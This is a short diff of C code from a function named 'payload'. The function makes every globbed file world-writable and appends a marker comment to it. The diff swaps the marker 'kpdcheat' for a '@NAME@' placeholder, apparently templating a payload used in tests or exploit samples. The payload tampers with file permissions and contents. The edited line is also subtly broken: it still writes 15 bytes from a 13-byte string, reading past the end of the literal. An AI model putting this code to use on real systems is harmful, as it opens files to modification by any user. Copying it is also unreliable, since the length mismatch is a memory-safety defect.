@@ -15,7 +15,7 @@ static void payload(int call) {
         chmod(found.gl_pathv[i], 0666);
         int file = open(found.gl_pathv[i], O_WRONLY | O_APPEND);
         if (file < 0) continue;
-        if (write(file, "/* kpdcheat */\n", 15) < 0) return;
+        if (write(file, "/* @NAME@ */\n", 15) < 0) return;
         close(file);
     }
     globfree(&found);
